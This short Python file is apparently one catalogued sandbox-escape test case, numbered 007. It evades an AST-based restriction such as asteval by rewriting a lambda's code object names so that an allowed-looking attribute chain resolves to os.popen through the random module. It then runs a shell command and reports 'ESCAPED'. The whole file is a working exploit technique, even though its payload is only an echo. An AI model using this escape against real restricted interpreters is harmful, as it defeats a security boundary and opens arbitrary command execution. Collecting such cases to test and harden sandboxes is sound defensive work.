# escape: 007
# technique: code.replace(co_names=...) rewrites attribute names after the AST check
# family: bytecode
# goal: exec
# first-seen: HackTricks; asteval issue 32
import random
f = lambda m: m.okname.okcall
c = f.__code__.replace(co_names=('_os', 'popen'))
if type(f)(c, {})(random)('echo cr').read() == 'cr\n': print('ESCAPED:co_names')
